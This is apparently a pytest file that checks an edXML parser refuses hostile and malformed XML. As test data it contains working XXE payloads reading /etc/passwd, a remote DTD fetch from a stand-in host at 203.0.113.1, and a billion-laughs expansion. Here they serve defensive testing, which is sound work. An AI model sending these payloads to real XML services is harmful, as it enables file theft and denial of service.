"""Hostile and broken XML gets a clear error, fast: XXE, billion laughs, DOCTYPE, empty, too large, too deep."""

from __future__ import annotations

import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from schemas.edxml import (
    EDXML_NS,
    EdocPackage,
    ForbiddenXml,
    InvalidPackage,
    MalformedXml,
    ParseLimits,
    SchemaError,
    XmlTooDeep,
    XmlTooLarge,
    build_edoc,
    parse_package,
    validate,
)
from schemas.xmlsafe import safe_parse

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<edXML xmlns="http://www.mic.gov.vn/TBT/QCVN_102_2016">&lol9;</edXML>"""

XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE edXML [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<edXML xmlns="http://www.mic.gov.vn/TBT/QCVN_102_2016"><x>&xxe;</x></edXML>"""

XXE_HTTP = b"""<?xml version="1.0"?>
<!DOCTYPE edXML [<!ENTITY % remote SYSTEM "http://203.0.113.1/evil.dtd"> %remote;]>
<edXML xmlns="http://www.mic.gov.vn/TBT/QCVN_102_2016"/>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE edXML SYSTEM "http://203.0.113.1/edxml.dtd">
<edXML xmlns="http://www.mic.gov.vn/TBT/QCVN_102_2016"/>"""

# A DOCTYPE after a comment longer than any prolog scan window: the parser's own guard must refuse it.
LATE_DOCTYPE = b"<?xml version='1.0'?><!--" + b"x" * (2 * 1024 * 1024) + b"-->" + XXE_FILE.split(b"?>", 1)[1]

UTF16_XXE = (
    XXE_FILE.replace(b'<?xml version="1.0"?>', b'<?xml version="1.0" encoding="UTF-16"?>').decode().encode("utf-16")
)

Reader = Callable[[bytes], Any]
READERS: dict[str, Reader] = {"parse_package": parse_package, "validate": validate, "safe_parse": safe_parse}


@pytest.fixture(params=sorted(READERS))
def read(request: pytest.FixtureRequest) -> Reader:
    return READERS[request.param]


@pytest.fixture
def fast() -> Iterator[None]:
    started = time.perf_counter()
    yield
    assert time.perf_counter() - started < 1.0


@pytest.mark.parametrize(
    "data",
    [BILLION_LAUGHS, XXE_FILE, XXE_HTTP, EXTERNAL_DTD, LATE_DOCTYPE, UTF16_XXE],
    ids=["billion_laughs", "xxe_file", "xxe_http", "external_dtd", "late_doctype", "utf16_xxe"],
)
def test_doctype_and_entities_are_forbidden(read: Reader, data: bytes, fast: None) -> None:
    with pytest.raises(ForbiddenXml) as caught:
        read(data)
    assert caught.value.code == "xml_forbidden_construct"
    assert "root:" not in str(caught.value)  # nothing of /etc/passwd leaks into the message


def test_doctype_in_a_file_is_forbidden(tmp_path: Path, fast: None) -> None:
    path = tmp_path / "xxe.edxml"
    path.write_bytes(LATE_DOCTYPE)
    with pytest.raises(ForbiddenXml):
        parse_package(path)


@pytest.mark.parametrize("data", [b"", b"   \n", b"\xef\xbb\xbf"], ids=["zero_bytes", "blank", "bom_only"])
def test_empty_input_is_malformed(read: Reader, data: bytes) -> None:
    with pytest.raises(MalformedXml) as caught:
        read(data)
    assert caught.value.code == "malformed_xml"


def test_malformed_xml_names_line_and_column(read: Reader) -> None:
    with pytest.raises(MalformedXml) as caught:
        read(b"<?xml version='1.0'?>\n<edXML>\n  <a></b>\n</edXML>")
    assert "line 3, column" in str(caught.value)


def test_truncated_package_is_malformed(edoc: EdocPackage) -> None:
    with pytest.raises(MalformedXml):
        parse_package(build_edoc(edoc)[:-40])


def test_default_limits() -> None:
    limits = ParseLimits()
    assert (limits.max_bytes, limits.max_depth) == (150 * 1024 * 1024, 64)


@pytest.mark.parametrize("name", sorted(READERS))
def test_configured_size_limit(name: str, edoc: EdocPackage, tmp_path: Path) -> None:
    data = build_edoc(edoc)
    with pytest.raises(XmlTooLarge) as caught:
        READERS[name](data, limits=ParseLimits(max_bytes=len(data) - 1))
    assert caught.value.code == "xml_too_large" and str(len(data) - 1) in str(caught.value)
    path = tmp_path / "p.edxml"
    path.write_bytes(data)
    with pytest.raises(XmlTooLarge):
        parse_package(path, limits=ParseLimits(max_bytes=1000))


def _deep(levels: int) -> bytes:
    return b"<edXML>" + b"<a>" * levels + b"</a>" * levels + b"</edXML>"


@pytest.mark.parametrize("name", sorted(READERS))
def test_depth_limit(name: str, fast: None) -> None:
    with pytest.raises(XmlTooDeep) as caught:
        READERS[name](_deep(100))
    assert caught.value.code == "xml_too_deep"
    with pytest.raises(XmlTooDeep):
        READERS[name](_deep(10), limits=ParseLimits(max_depth=5))


def test_element_count_limit() -> None:
    data = b"<edXML>" + b"<a/>" * 1000 + b"</edXML>"
    with pytest.raises(XmlTooLarge):
        parse_package(data, limits=ParseLimits(max_elements=500))
    with pytest.raises(XmlTooLarge):
        safe_parse(data, limits=ParseLimits(max_elements=500))


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"<html><body/></html>", "root is"),
        (b'<edXML xmlns="urn:other"/>', "root is"),
        (f'<edXML xmlns="{EDXML_NS}"/>'.encode(), "no edXMLEnvelope"),
        (f'<edXML xmlns="{EDXML_NS}"><edXMLEnvelope/></edXML>'.encode(), "no edXMLHeader"),
        (
            f'<edXML xmlns="{EDXML_NS}"><edXMLEnvelope><edXMLHeader><MessageHeader/></edXMLHeader>'
            "</edXMLEnvelope></edXML>".encode(),
            "no From",
        ),
    ],
)
def test_not_an_edxml_package(data: bytes, message: str) -> None:
    with pytest.raises(InvalidPackage) as caught:
        parse_package(data)
    assert caught.value.code == "invalid_package" and message in str(caught.value)


def test_every_error_is_a_schema_error() -> None:
    for exc in (ForbiddenXml, MalformedXml, XmlTooLarge, XmlTooDeep, InvalidPackage):
        assert issubclass(exc, SchemaError)
